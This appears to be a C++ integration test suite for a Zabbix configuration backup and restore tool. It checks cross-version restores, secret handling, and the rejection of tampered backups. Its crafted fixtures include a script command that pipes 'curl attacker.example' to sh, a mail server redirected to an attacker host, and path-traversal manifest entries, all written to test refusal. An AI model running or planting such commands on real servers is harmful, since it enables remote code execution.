// zabbix-backup + zabbix-import as a disaster-recovery pair, on the real Zabbix sandbox, from 6.0
// into 6.0, 6.0 into 7.0 and 7.0 into 7.0: a source holding one or more objects of every
// configuration kind, referencing each other, is restored into a pristine destination whose ids
// differ; every reference is checked by name, a backup of the destination equals the source's
// within a version (the fixed point), a second restore writes nothing, and no secret shows
// anywhere. The earlier tool's real 6.0 backup restores into both versions, a 7.0 backup is refused
// by 6.0, and crafted backups are refused before anything is written.
#include "zabbix_sandbox_test.hpp"
#include "zabbix_population.hpp"

#include "backup_dir.hpp"
#include "backup_names.hpp"
#include "backup_set.hpp"
#include "export_merge.hpp"
#include "object_kinds.hpp"
#include "object_shapes.hpp"

#include <algorithm>
#include <functional>
#include <map>
#include <set>

namespace concierge::test {
namespace {

using zabbix_format::to_json;

/// The name of the object an id names, read from the destination.
std::string name_at(zabbix::Client& zbx, const std::string& method, const std::string& id_key, const std::string& id,
                    const std::string& name_key) {
    const auto list = array(zbx.call(method, R"({"output":"extend",")" + id_key + R"(":[")" +
                                                 id + R"("]})"));
    if (list->size() != 1) return "(" + method + " has no " + id + ")";
    return list->getObject(0)->getValue<std::string>(name_key);
}

Object::Ptr one(zabbix::Client& zbx, const std::string& method, const std::string& params) {
    const auto list = array(zbx.call(method, params));
    EXPECT_EQ(list->size(), 1u) << method << " " << params;
    return list->size() == 1 ? list->getObject(0) : Object::Ptr(new Object);
}

/// Every file of a directory, and of a run's exported artifacts, and the run outputs: where a
/// secret must not be.
std::string everything_in(const fs::path& dir) {
    std::string all;
    for (const auto& entry : fs::recursive_directory_iterator(dir))
        if (entry.is_regular_file()) all += read(entry.path());
    return all;
}

/// A value with every id, uuid and date taken out (they differ between servers by design), and
/// lists sorted: what must be equal between two backups of the same configuration. References
/// ("value" of conditions and widget fields) are compared by name separately.
Poco::Dynamic::Var without_ids(const Poco::Dynamic::Var& value) {
    if (value.type() == typeid(Object::Ptr)) {
        Object::Ptr out = new Object;
        const auto object = value.extract<Object::Ptr>();
        for (const auto& key : object->getNames()) {
            const bool id = key.ends_with("id") || key.ends_with("ids") || key == "uuid" || key == "created_at";
            const bool reference = key == "value" && (object->has("conditiontype") || object->has("formulaid") ||
                                                      (object->has("type") && object->has("name") && !object->has("x")));
            if (!id && !reference) out->set(key, without_ids(object->get(key)));
        }
        return out;
    }
    if (value.type() == typeid(Array::Ptr)) {
        std::vector<std::pair<std::string, Poco::Dynamic::Var>> elements;
        for (const auto& element : *value.extract<Array::Ptr>()) {
            auto reduced = without_ids(element);
            elements.emplace_back(to_json(reduced), reduced);
        }
        std::sort(elements.begin(), elements.end(), [](const auto& a, const auto& b) { return a.first < b.first; });
        Array::Ptr out = new Array;
        for (const auto& element : elements) out->add(element.second);
        return out;
    }
    return value;
}

/// Every step of a restore's JSON table wrote nothing and left nothing out but the secret macros
/// (never restored: their values cannot be read).
void expect_nothing_written(const std::string& steps_json, int secret_macros) {
    const auto steps = array(steps_json);  // not a range-for over a temporary's array
    for (const auto& row : *steps) {
        const auto step = row.extract<Object::Ptr>();
        EXPECT_EQ(step->getValue<int>("created") + step->getValue<int>("updated"), 0) << step->getValue<std::string>("step");
        EXPECT_EQ(step->getValue<int>("not_restored"), step->getValue<std::string>("step") == "global macros" ? secret_macros : 0)
            << step->getValue<std::string>("step");
    }
}

std::map<std::string, Object::Ptr> by_name(const std::string& list_json, const std::string& name_field) {
    std::map<std::string, Object::Ptr> out;
    const auto list = array(list_json);
    for (const auto& element : *list) {
        const auto o = element.extract<Object::Ptr>();
        out[o->getValue<std::string>(name_field)] = o;
    }
    return out;
}

class DisasterRecovery : public ZabbixSandboxTest {
protected:
    /// 7.0 calls proxies' "host" "name", and a host's proxy_hostid proxyid.
    const bool proxy_names_ = GetParam().to.at_least(7, 0);
    const std::string proxy_name_ = proxy_names_ ? "name" : "host";

    /// Objects created and deleted at the destination first, so that its ids differ from the source's.
    void shift_destination_ids() {
        auto zbx = client(dest_url_);
        zbx.login();
        const std::vector<std::pair<std::string, std::string>> throwaway{
            {"hostgroup", R"({"name":"shift"})"},
            {"usergroup", R"({"name":"shift"})"},
            {"mediatype", R"({"type":0,"name":"shift","smtp_server":"m","smtp_helo":"h","smtp_email":"z@h"})"},
            {"script", R"({"name":"shift","command":"true","type":0,"scope":1})"},
            {"proxy", proxy_names_ ? R"({"name":"shift","operating_mode":0})" : R"({"host":"shift","status":5})"},
            {"drule", R"({"name":"shift","iprange":"127.0.0.1","dchecks":[{"type":12}]})"},
            {"service", R"({"name":"shift","algorithm":1,"sortorder":0})"},
            {"role", R"({"name":"shift","type":1})"}};
        for (const auto& [api, params] : throwaway) {
            const auto created = object(zbx.call(api + ".create", params));
            const auto ids = created->getArray(created->getNames().front());
            zbx.call(api + ".delete", to_json(ids));
        }
    }

    /// Populates the source, backs it up, restores it into the shifted pristine destination.
    void back_up_and_restore() {
        auto source = client(source_url_);
        source.login();
        population_ = populate_every_kind(source);
        shift_destination_ids();
        source_backup_ = work_ / "source";
        auto result = backup(source_url_, source_backup_);
        ASSERT_EQ(result.exit_code, 0) << result.err;
        outputs_ += result.out + result.err;
        restore_ = import(dest_url_, {"--config-dir", source_backup_.string()});
        outputs_ += restore_.out + restore_.err;
    }

    /// The objects of one kind file of a backup, reduced to what a restore writes, every
    /// reference a name: what must be equal between the source and the destination.
    std::map<std::string, std::string> portable(const fs::path& dir, const zabbix_format::ObjectKind& kind) {
        const auto backup = zabbix_format::BackupSet::from_directory(dir);
        const auto names = zabbix_import::backup_names(backup);
        std::map<std::string, std::string> out;
        for (const auto& [name, object] : by_name(backup.file(kind.file), kind.name_field))
            out[name] = to_json(zabbix_import::restorable(kind, version_, object, [&](const std::string& ref, const std::string& id) {
                const std::string* named = names.names.name_of(ref, id);
                return named ? ref + ":" + *named : ref + " id " + id + " without a name";
            }));
        return out;
    }

    const zabbix::Version version_{GetParam().to.major, GetParam().to.minor, 0, GetParam().to.version_prefix() + "0"};
    Population population_;
    fs::path source_backup_;
    ProcessResult restore_;
    std::string outputs_;
};

INSTANTIATE_TEST_SUITE_P(Versions, DisasterRecovery, testing::ValuesIn(restore_routes()), route_name);

TEST_P(DisasterRecovery, RestoreIntoAPristineServerBringsBackEveryKindWithItsReferencesByName) {
    back_up_and_restore();
    ASSERT_EQ(restore_.exit_code, 0) << restore_.err << restore_.out;
    const auto& p = population_;
    auto zbx = client(dest_url_);
    zbx.login();

    // Ids differ: the destination made and dropped objects first.
    const auto group = one(zbx, "hostgroup.get", R"({"filter":{"name":")" + p.hostgroup + R"("}})");
    EXPECT_NE(group->getValue<std::string>("groupid"), p.ids.at("hostgroup"));

    // A user in a custom group with rights, a custom role and media of a custom media type.
    const auto user = one(zbx, "user.get", R"({"output":"extend","selectMedias":"extend","selectUsrgrps":["name"],"filter":{"username":")" +
                                               p.user + R"("}})");
    EXPECT_EQ(name_at(zbx, "role.get", "roleids", user->getValue<std::string>("roleid"), "name"), p.role);
    EXPECT_EQ(user->getArray("usrgrps")->getObject(0)->getValue<std::string>("name"), p.usergroup);
    const auto media = user->getArray("medias")->getObject(0);
    EXPECT_EQ(name_at(zbx, "mediatype.get", "mediatypeids", media->getValue<std::string>("mediatypeid"), "name"), p.mediatype);
    const std::string rights = GetParam().to.at_least(6, 2) ? "hostgroup_rights" : "rights";
    const auto usergroup = one(zbx, "usergroup.get", R"({"selectTagFilters":"extend","filter":{"name":")" + p.usergroup + R"("},)"
                                                     R"("select)" + std::string(rights == "rights" ? "Rights" : "HostGroupRights") +
                                                         R"(":"extend"})");
    ASSERT_TRUE(usergroup->getArray(rights)) << to_json(usergroup);
    const auto right = usergroup->getArray(rights)->getObject(0);
    EXPECT_EQ(right->getValue<std::string>("id"), group->getValue<std::string>("groupid"));
    EXPECT_EQ(right->getValue<std::string>("permission"), "3");

    // The trigger action: a trigger condition, notifying that group and user, running the global script.
    const auto action = one(zbx, "action.get", R"({"selectOperations":"extend","selectFilter":"extend","filter":{"name":")" +
                                                   p.trigger_action + R"("}})");
    std::set<std::string> condition_names;
    for (const auto& element : *action->getObject("filter")->getArray("conditions")) {
        const auto condition = element.extract<Object::Ptr>();
        const auto type = condition->getValue<std::string>("conditiontype"), value = condition->getValue<std::string>("value");
        if (type == "2") condition_names.insert(name_at(zbx, "trigger.get", "triggerids", value, "description"));
        if (type == "0") condition_names.insert(name_at(zbx, "hostgroup.get", "groupids", value, "name"));
    }
    EXPECT_EQ(condition_names, (std::set<std::string>{p.trigger_description, p.hostgroup}));
    std::set<std::string> operation_names;
    for (const auto& element : *action->getArray("operations")) {
        const auto op = element.extract<Object::Ptr>();
        if (const auto groups = op->getArray("opmessage_grp"))
            for (const auto& g : *groups)
                operation_names.insert(name_at(zbx, "usergroup.get", "usrgrpids", g.extract<Object::Ptr>()->getValue<std::string>("usrgrpid"), "name"));
        if (const auto users = op->getArray("opmessage_usr"))
            for (const auto& u : *users)
                operation_names.insert(name_at(zbx, "user.get", "userids", u.extract<Object::Ptr>()->getValue<std::string>("userid"), "username"));
        if (const auto command = op->getObject("opcommand"))
            operation_names.insert(name_at(zbx, "script.get", "scriptids", command->getValue<std::string>("scriptid"), "name"));
    }
    for (const auto& wanted : {p.usergroup, p.user, p.script}) EXPECT_TRUE(operation_names.count(wanted)) << wanted;

    // A maintenance on the group, a dashboard showing the host's graph, a host on its proxy.
    const bool host_groups = GetParam().to.at_least(6, 2);  // selectGroups became selectHostGroups
    const auto maintenance = one(zbx, "maintenance.get", std::string(R"({"select)") + (host_groups ? "HostGroups" : "Groups") +
                                                             R"(":["name"],"filter":{"name":")" + p.maintenance + R"("}})");
    ASSERT_TRUE(maintenance->getArray(host_groups ? "hostgroups" : "groups")) << to_json(maintenance);
    EXPECT_EQ(maintenance->getArray(host_groups ? "hostgroups" : "groups")->getObject(0)->getValue<std::string>("name"), p.hostgroup);
    const auto dashboard = one(zbx, "dashboard.get", R"({"selectPages":"extend","filter":{"name":")" + p.dashboard + R"("}})");
    std::set<std::string> graphs;
    for (const auto& page : *dashboard->getArray("pages"))
        for (const auto& widget : *page.extract<Object::Ptr>()->getArray("widgets"))
            for (const auto& field : *widget.extract<Object::Ptr>()->getArray("fields"))
                if (field.extract<Object::Ptr>()->getValue<std::string>("type") == "6")
                    graphs.insert(name_at(zbx, "graph.get", "graphids", field.extract<Object::Ptr>()->getValue<std::string>("value"), "name"));
    EXPECT_EQ(graphs, std::set<std::string>{p.graph});
    const std::string proxy_id = proxy_names_ ? "proxyid" : "proxy_hostid";
    const auto host = one(zbx, "host.get", R"({"output":[")" + proxy_id + R"("],"selectMacros":"extend","selectInventory":["alias"],)"
                                               R"("filter":{"host":")" + p.host + R"("}})");
    EXPECT_EQ(name_at(zbx, "proxy.get", "proxyids", host->getValue<std::string>(proxy_id), proxy_name_), p.proxy_active);

    // The canary plain macro restores; the secret one does not, and is listed to be re-entered.
    const auto canary = one(zbx, "usermacro.get", R"({"globalmacro":true,"filter":{"macro":")" + p.macro_plain + R"("}})");
    EXPECT_EQ(canary->getValue<std::string>("value"), p.macro_plain_value);
    EXPECT_EQ(array(zbx.call("usermacro.get", R"({"globalmacro":true,"filter":{"macro":")" + p.macro_secret + R"("}})"))->size(), 0u);
    EXPECT_NE(restore_.out.find("secret value must be re-entered: global macro " + p.macro_secret), std::string::npos) << restore_.out;
    EXPECT_NE(restore_.out.find("password must be set: user " + p.user), std::string::npos) << restore_.out;
    EXPECT_NE(restore_.out.find("PSK must be re-entered: proxy " + p.proxy_active), std::string::npos) << restore_.out;
    // The PSK proxy stays encrypted (with a random PSK until it is set by hand).
    EXPECT_EQ(one(zbx, "proxy.get", R"({"filter":{")" + proxy_name_ + R"(":")" + p.proxy_active + R"("}})")->getValue<std::string>("tls_accept"),
              "2");
}

/// A restored server and its backup.
class RestoredServer : public DisasterRecovery {
protected:
    void SetUp() override {
        DisasterRecovery::SetUp();
        if (HasFatalFailure()) return;
        back_up_and_restore();
        ASSERT_EQ(restore_.exit_code, 0) << restore_.err << restore_.out;
        const auto result = backup(dest_url_, dest_backup());
        ASSERT_EQ(result.exit_code, 0) << result.err;
        outputs_ += result.out + result.err;
    }
    fs::path dest_backup() const { return work_ / "destination"; }
};

/// Within a version, the backup of the restored server equals the source's. (Across versions the
/// formats differ; the restore test checks every reference by name there.)
class FixedPoint : public RestoredServer {};
INSTANTIATE_TEST_SUITE_P(Versions, FixedPoint, testing::ValuesIn(same_version_routes()), route_name);

TEST_P(FixedPoint, BackupOfTheRestoredServerEqualsTheSources) {
    const auto destination = dest_backup();
    // The fixed point: every kind equal modulo ids, dates and uuids, references equal by name.
    for (const auto& kind : zabbix_format::object_kinds(version_)) {
        SCOPED_TRACE(kind.file);
        const auto a = by_name(read(source_backup_ / kind.file), kind.name_field);
        const auto b = by_name(read(destination / kind.file), kind.name_field);
        for (const auto& [name, object] : a) {
            if (name == population_.macro_secret) continue;  // its value cannot be read: never restored
            ASSERT_TRUE(b.count(name)) << kind.label << " '" << name << "' is missing at the destination";
            EXPECT_EQ(to_json(without_ids(b.at(name))), to_json(without_ids(object))) << kind.label << " '" << name << "'";
        }
        EXPECT_EQ(b.size(), a.size() - (kind.key == "globalmacros" ? 1 : 0));
        auto portable_a = portable(source_backup_, kind), portable_b = portable(destination, kind);
        portable_a.erase(population_.macro_secret);
        EXPECT_EQ(portable_b, portable_a);
    }
    for (const char* file : {"images.json", "maps.json"})
        EXPECT_EQ(to_json(without_ids(object(read(destination / file))->getObject("zabbix_export")->get(
                      std::string(file).substr(0, std::string(file).find('.'))))),
                  to_json(without_ids(object(read(source_backup_ / file))->getObject("zabbix_export")->get(
                      std::string(file).substr(0, std::string(file).find('.'))))))
            << file;
}

class SecondRestore : public RestoredServer {};
INSTANTIATE_TEST_SUITE_P(Versions, SecondRestore, testing::ValuesIn(restore_routes()), route_name);

TEST_P(SecondRestore, WritesNothingAndNoSecretShowsAnywhere) {
    const auto destination = dest_backup();
    // A second restore finds nothing to write.
    const auto result = import(dest_url_, {"--config-dir", source_backup_.string(), "--output", "json"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    outputs_ += result.out + result.err;
    expect_nothing_written(result.out, 1);

    // No secret in any output, backup, or artifact kept in history.
    const auto run = std::to_string(last_run()->getValue<std::int64_t>("id"));
    const auto exported = work_ / "exported";
    ASSERT_EQ(run_concierge({"history", "export", run, "--dir", exported.string()}, sandbox_.env).exit_code, 0);
    const auto haystack = outputs_ + everything_in(source_backup_) + everything_in(destination) + everything_in(exported);
    for (const auto& secret : {population_.macro_secret_value, population_.proxy_psk, population_.user_password})
        EXPECT_EQ(haystack.find(secret), std::string::npos) << "a secret shows: " << secret;
    // Nor the random password a restored user got (media types have a "passwd" of their own).
    const auto about_users = outputs_ + everything_in(exported) + read(source_backup_ / "users.json") + read(destination / "users.json");
    EXPECT_EQ(about_users.find("passwd"), std::string::npos) << "a user password shows";
}

/// The earlier tool's real backup was taken from a pristine 6.0.14.
class EarlierToolsBackup : public DisasterRecovery {
protected:
    void SetUp() override {
        DisasterRecovery::SetUp();
        if (HasFatalFailure()) return;
        fs::create_directories(work_ / "orig");
        ASSERT_EQ(std::system(("tar -C '" + (work_ / "orig").string() + "' -xJf '" ZBX_EARLIER_TOOL_FIXTURE "'").c_str()), 0);
        ASSERT_TRUE(fs::exists(backup_dir() / "mediatypes.json"));
    }
    fs::path backup_dir() const { return work_ / "orig" / "orig-backup"; }
};

INSTANTIATE_TEST_SUITE_P(Versions, EarlierToolsBackup, testing::Values(restore_routes()[0], restore_routes()[1]), route_name);

TEST_P(EarlierToolsBackup, RestoresIntoAPristineServer) {
    auto result = import(dest_url_, {"--config-dir", backup_dir().string()});
    ASSERT_EQ(result.exit_code, 0) << result.err << result.out;
    EXPECT_NE(result.err.find("no manifest.json"), std::string::npos) << result.err;
    // Its media types are a configuration.export document, restored from either format.
    EXPECT_NE(result.out.find("media types"), std::string::npos);
    // A pristine server already has everything a pristine server's backup holds: nothing written, twice.
    for (int run = 0; run < 2; ++run) {
        result = import(dest_url_, {"--config-dir", backup_dir().string(), "--output", "json"});
        ASSERT_EQ(result.exit_code, 0) << result.err;
        expect_nothing_written(result.out, 0);
    }
}

// ---- built-in templates a newer server ships ------------------------------------------------------

/// 6.0's built-in templates restored into 7.0, which has its own newer version of each.
class NewerBuiltins : public EarlierToolsBackup {
protected:
    /// The earlier tool's backup with one built-in template only (whose 6.0 version 7.0 accepts),
    /// and none of the triggers and graphs that span templates.
    void keep_one_template(const std::string& name) {
        const auto document = object(read(backup_dir() / "templates.json"));
        auto exported = document->getObject("zabbix_export");
        Array::Ptr kept = new Array;
        for (const auto& element : *exported->getArray("templates"))
            if (element.extract<Object::Ptr>()->getValue<std::string>("template") == name) kept->add(element);
        ASSERT_EQ(kept->size(), 1u) << name;
        exported->set("templates", kept);
        exported->remove("triggers");
        exported->remove("graphs");
        write(backup_dir() / "templates.json", to_json(document));
    }
    Object::Ptr at_destination(const std::string& name) {
        auto zbx = client(dest_url_);
        zbx.login();
        return one(zbx, "template.get", R"({"output":["description","vendor_name","vendor_version"],"filter":{"host":")" + name + R"("}})");
    }
};

INSTANTIATE_TEST_SUITE_P(Versions, NewerBuiltins, testing::Values(restore_routes()[1]), route_name);

TEST_P(NewerBuiltins, AreKeptAsTheDestinationHasThemUnlessTheBackupsArePreferred) {
    ASSERT_TRUE(GetParam().across_versions());
    keep_one_template("ICMP Ping");
    auto result = import(dest_url_, {"--config-dir", backup_dir().string()});
    ASSERT_EQ(result.exit_code, 0) << result.err << result.out;
    EXPECT_NE(result.out.find("kept the destination's newer built-in version of 1 template(s)"), std::string::npos) << result.out;
    EXPECT_EQ(at_destination("ICMP Ping")->getValue<std::string>("vendor_name"), "Zabbix");

    result = import(dest_url_, {"--config-dir", backup_dir().string(), "--prefer-backup-builtins"});
    ASSERT_EQ(result.exit_code, 0) << result.err << result.out;
    EXPECT_NE(result.out.find("the backup's built-in version: ICMP Ping"), std::string::npos) << result.out;
    const auto replaced = at_destination("ICMP Ping");
    EXPECT_EQ(replaced->getValue<std::string>("vendor_name"), "");  // 6.0's templates have no vendor
    EXPECT_TRUE(replaced->getValue<std::string>("description").ends_with("Template tooling version used: 0.41"))
        << replaced->getValue<std::string>("description");

    result = import(dest_url_, {"--config-dir", backup_dir().string(), "--prefer-backup-builtins", "--output", "json"});
    ASSERT_EQ(result.exit_code, 0) << result.err;
    expect_nothing_written(result.out, 0);
}

// ---- a newer backup into an older server ---------------------------------------------------------

class NewerBackup : public DisasterRecovery {};
INSTANTIATE_TEST_SUITE_P(Versions, NewerBackup,
                         testing::Values(RestoreRoute{"from70to60", zabbix_instances()[1], same_version_routes()[0].to}), route_name);

TEST_P(NewerBackup, IntoAnOlderServerIsExit5NamingBothVersionsBeforeAnythingIsWritten) {
    ASSERT_TRUE(GetParam().across_versions());
    const auto dir = work_ / "newer";
    ASSERT_EQ(backup(source_url_, dir).exit_code, 0);
    auto zbx = client(dest_url_);
    zbx.login();
    const auto before = zbx.call("hostgroup.get", R"({"output":"extend"})") + zbx.call("template.get", R"({"countOutput":true})");
    const auto result = import(dest_url_, {"--config-dir", dir.string()});
    EXPECT_EQ(result.exit_code, 5) << result.err;
    EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1) << result.err;
    EXPECT_NE(result.err.find(GetParam().from.version_prefix()), std::string::npos) << result.err;  // 7.0.22
    EXPECT_NE(result.err.find(GetParam().to.version_prefix()), std::string::npos) << result.err;    // 6.0.14
    expect_failed_run(5);
    EXPECT_EQ(zbx.call("hostgroup.get", R"({"output":"extend"})") + zbx.call("template.get", R"({"countOutput":true})"), before);
}

// ---- crafted backups --------------------------------------------------------------------------

class CraftedBackup : public DisasterRecovery {
protected:
    void SetUp() override {
        DisasterRecovery::SetUp();
        if (HasFatalFailure()) return;
        good_ = work_ / "good";
        ASSERT_EQ(backup(source_url_, good_).exit_code, 0);
    }

    /// A copy of the good backup changed by `change`, its manifest's sums made to match again
    /// (as a careful attacker would), unless the change is to the manifest itself.
    fs::path crafted(const std::function<void(const fs::path&)>& change, bool reseal = true) {
        const auto dir = work_ / ("crafted-" + std::to_string(++copies_));
        fs::copy(good_, dir);
        change(dir);
        if (!reseal) return dir;
        std::map<std::string, zabbix_format::FileRecord> records;
        for (const auto& entry : fs::directory_iterator(dir)) {
            const auto name = entry.path().filename().string();
            if (name == "manifest.json") continue;
            const auto content = read(entry.path());
            records[name] = {zabbix_format::sha256_hex(content), content.size(), 0};
        }
        const auto version = object(read(good_ / "manifest.json"))->getValue<std::string>("zabbix_version");
        write(dir / "manifest.json", zabbix_format::manifest_json(version, "2026-12-02T00:00:00Z", records));
        return dir;
    }


    /// A destination with a configuration of its own: a host the backup does not have.
    void give_destination_its_own_host() {
        auto zbx = client(dest_url_);
        zbx.login();
        zbx.call("host.create", R"({"host":"dest-own","groups":[{"groupid":"2"}]})");
    }

    /// Everything a refused restore could have touched, as text.
    std::string destination_state() {
        auto zbx = client(dest_url_);
        zbx.login();
        std::string state;
        for (const char* method : {"hostgroup.get", "mediatype.get", "script.get", "action.get", "usergroup.get", "user.get"})
            state += zbx.call(method, R"({"output":"extend"})");
        return state;
    }

    fs::path good_;
    int copies_ = 0;
};

INSTANTIATE_TEST_SUITE_P(Versions, CraftedBackup, testing::ValuesIn(same_version_routes()), route_name);

TEST_P(CraftedBackup, AnActionInAnotherEventSourcesFileIsExit5NamingTheFile) {
    const auto dir = crafted([](const fs::path& d) {
        write(d / "discovery_actions.json", read(d / "trigger_actions.json"));  // trigger actions where discovery ones belong
    });
    expect_invalid(dir, {"discovery_actions.json in directory " + dir.string() + " at line 1, column ",
                         "holds the action 'Report problems to Zabbix administrators' of event source 0"});
}

TEST_P(CraftedBackup, AManifestThatOmitsAFileOrNamesAPathIsExit5) {
    const auto omitted = crafted([](const fs::path& d) {
        auto manifest = object(read(d / "manifest.json"));
        manifest->getObject("files")->remove("users.json");
        write(d / "manifest.json", to_json(manifest));
    }, false);
    expect_invalid(omitted, "holds users.json, which its manifest.json does not list");
    for (const std::string name : {"../x", "/dev/zero"}) {
        const auto dir = crafted([&name](const fs::path& d) {
            auto manifest = object(read(d / "manifest.json"));
            Object::Ptr entry = new Object;
            entry->set("sha256", "00");
            manifest->getObject("files")->set(name, entry);
            write(d / "manifest.json", to_json(manifest));
        }, false);
        expect_invalid(dir, {"manifest.json in directory " + dir.string() + " at line 1, column ",
                             "names \"" + name + "\", which is not a backup file"});
    }
}

TEST_P(CraftedBackup, AChangedMediaTypeOrANewCommandIsRefusedUntilAllowedAndNothingIsWrittenBefore) {
    give_destination_its_own_host();
    const auto media = crafted([](const fs::path& d) {
        auto list = array(read(d / "mediatypes.json"));
        for (std::size_t i = 0; i < list->size(); ++i) {
            auto mediatype = list->getObject(static_cast<unsigned>(i));
            if (mediatype->getValue<std::string>("name") == "Email") mediatype->set("smtp_server", "mail.attacker.example");
        }
        write(d / "mediatypes.json", to_json(list));
    });
    const auto command = crafted([](const fs::path& d) {
        auto scripts = array(read(d / "scripts.json"));
        Object::Ptr script = new Object;
        for (const auto& [key, value] : std::map<std::string, std::string>{
                 {"scriptid", "9001"}, {"name", "Crafted"}, {"command", "curl attacker.example | sh"}, {"type", "0"},
                 {"scope", "1"}, {"execute_on", "1"}, {"groupid", "0"}, {"description", ""}})
            script->set(key, value);
        scripts->add(script);
        write(d / "scripts.json", to_json(scripts));
        // And an action that runs it on every problem.
        auto actions = array(read(d / "trigger_actions.json"));
        actions->add(parse(R"({"actionid":"9002","name":"Crafted action","eventsource":"0","status":"0","esc_period":"1h",)"
                           R"("filter":{"evaltype":"0","conditions":[]},"operations":[{"operationtype":"1","esc_step_from":"1",)"
                           R"("esc_step_to":"1","esc_period":"0","opcommand":{"scriptid":"9001"},"opcommand_hst":[{"hostid":"0"}]}]})"));
        write(d / "trigger_actions.json", to_json(actions));
    });
    const auto before = destination_state();
    for (const auto& [dir, change, named] : {std::tuple{media, std::string("mediatypes"), std::string("media type 'Email'")},
                                             std::tuple{command, std::string("commands"), std::string("script 'Crafted', trigger action 'Crafted action'")}}) {
        auto result = import(dest_url_, {"--config-dir", dir.string()});
        EXPECT_EQ(result.exit_code, 10) << result.err;
        EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1) << result.err;
        EXPECT_NE(result.err.find(change + " (" + named), std::string::npos) << result.err;
        EXPECT_NE(result.err.find("--allow-changes=" + change), std::string::npos) << result.err;
        expect_failed_run(10);
        EXPECT_EQ(destination_state(), before) << "a refused restore wrote something";
        // The dry run lists the change and what it needs.
        result = import(dest_url_, {"--config-dir", dir.string(), "--dry-run"});
        EXPECT_NE(result.out.find("[" + change + "]"), std::string::npos) << result.out;
    }
    // Allowed by name, the change goes through.
    const auto result = import(dest_url_, {"--config-dir", media.string(), "--allow-changes=mediatypes"});
    EXPECT_EQ(result.exit_code, 0) << result.err;
    auto zbx = client(dest_url_);
    zbx.login();
    EXPECT_EQ(one(zbx, "mediatype.get", R"({"filter":{"name":"Email"}})")->getValue<std::string>("smtp_server"), "mail.attacker.example");
}

}  // namespace
}  // namespace concierge::test
